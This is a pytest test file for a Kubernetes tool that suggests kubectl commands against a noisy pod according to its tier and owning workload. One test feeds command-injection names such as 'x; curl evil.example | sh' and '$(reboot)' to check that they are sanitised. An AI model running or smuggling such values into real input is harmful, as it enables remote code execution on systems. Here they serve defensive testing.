"""Advice against a culprit: what its tier allows, with a command that is right for what owns its pod."""

import pytest

from correlator.analysis.against import against
from correlator.analysis.commands import word
from correlator.analysis.tiers import tiers_words
from correlator.model.finding import Advice
from tests.factories import make_suspect, make_victim

VICTIM = make_victim(tier="model-inference")


def advice(tier: str, workload: str, pod: str = "x-1") -> Advice:
    """Against a pod of the namespace `work`."""
    return against(make_suspect(namespace="work", pod=pod, tier=tier, workload=workload), VICTIM, "n1/sda")


@pytest.mark.parametrize(
    ("workload", "command"),
    [
        ("Job/crawl", """kubectl -n work patch job crawl -p '{"spec":{"suspend":true}}'"""),
        ("Deployment/crawl", "kubectl -n work scale deployment crawl --replicas=0"),
        ("StatefulSet/crawl", "kubectl -n work scale statefulset crawl --replicas=0"),
        ("ReplicaSet/crawl", "kubectl -n work scale replicaset crawl --replicas=0"),
        ("DaemonSet/crawl", "kubectl -n work describe pod x-1"),
        ("RayCluster/crawl", "kubectl -n work describe pod x-1"),
        ("", "kubectl -n work delete pod x-1"),
    ],
)
def test_a_sandbox_is_stopped_by_its_owner(workload: str, command: str) -> None:
    """What scales is scaled, a job is suspended, a pod of its own is deleted; who cannot be stopped is looked at."""
    assert advice("agentic-sandbox", workload).command == command


def test_the_job_of_a_cron_job_is_suspended_that_runs_now() -> None:
    """Suspending the CronJob would not end it; where the pod's name does not tell the Job, at least no more follow."""
    patch = """-p '{"spec":{"suspend":true}}'"""
    running = advice("agentic-sandbox", "CronJob/crawl", "crawl-29400001-h8kz2").command
    assert running == f"kubectl -n work patch job crawl-29400001 {patch}"
    assert advice("agentic-sandbox", "CronJob/crawl").command == f"kubectl -n work patch cronjob crawl {patch}"


@pytest.mark.parametrize(
    "workload", ["Job/backup", "CronJob/backup", "StatefulSet/pg", "Deployment/pg", "DaemonSet/pg", ""]
)
@pytest.mark.parametrize("tier", ["data-infrastructure", "database"])
def test_data_infrastructure_is_never_touched(tier: str, workload: str) -> None:
    """Whatever owns it: no command against it changes anything, and nobody is told to throttle it."""
    told = advice(tier, workload)
    assert told.command == "kubectl -n work logs x-1 --since=30m"
    assert not {"throttle", "suspend", "stop", "scale"} & set(told.action.replace(",", "").split())


def test_a_pipeline_runs_at_another_hour() -> None:
    """Its job is suspended, to be resumed; what is no job is looked at."""
    assert "quieter hour" in advice("deterministic-pipeline", "Job/etl").action
    assert advice("deterministic-pipeline", "Deployment/etl").command.startswith("kubectl -n work describe")


def test_two_models_are_kept_apart() -> None:
    """Neither serves less for the other."""
    assert "neither is to be throttled" in advice("model-inference", "Deployment/other").why


@pytest.mark.parametrize("tier", ["", "gold"])
def test_a_tier_of_another_name_allows_what_can_be_undone(tier: str) -> None:
    """Without a known tier a job is suspended and the rest looked at."""
    assert advice(tier, "Job/x").action == "suspend the job"
    assert advice(tier, "Deployment/x").command == "kubectl -n work describe pod x-1"


def test_which_tier_hurt_which_is_said_where_both_are_known() -> None:
    """In one sentence; what is not known is not said."""
    sandbox = make_suspect(tier="agentic-sandbox")
    assert tiers_words(VICTIM, (sandbox,)) == "The tier agentic-sandbox hurt the tier model-inference."
    assert tiers_words(VICTIM, (make_suspect(tier=VICTIM.tier),)).startswith("Both are of the tier model-inference")
    assert not tiers_words(make_victim(tier=""), (sandbox,))
    assert not tiers_words(VICTIM, (make_suspect(tier=""),))


@pytest.mark.parametrize(
    "name", ["--all", "x; curl evil.example | sh", "$(reboot)", "`reboot`", "a b", "x\ny", "'", "-", "x&"]
)
def test_a_name_gives_no_orders(name: str) -> None:
    """Commands are there to be copied: a label that is no name of Kubernetes' is neither an option nor a command."""
    for workload in ("", f"Job/{name}", f"Deployment/{name}"):
        suspect = make_suspect(namespace=name, pod=name, tier="agentic-sandbox", workload=workload, node=name)
        command = against(suspect, VICTIM, "n1/sda").command
        words = command.replace(""" -p '{"spec":{"suspend":true}}'""", "").replace(" --replicas=0", "").split(" ")
        assert set(words) <= {"kubectl", "-n", "NAME", "delete", "pod", "patch", "job", "scale", "deployment"}


@pytest.mark.parametrize(
    "name", ["vllm-0", "ip-10-0-0-1.ec2.internal", "10.0.0.1:9100", "Node_7", "deployment/vllm", ""]
)
def test_a_name_stays_itself(name: str) -> None:
    """What Kubernetes and exporters call things is not touched."""
    assert word(name) == name
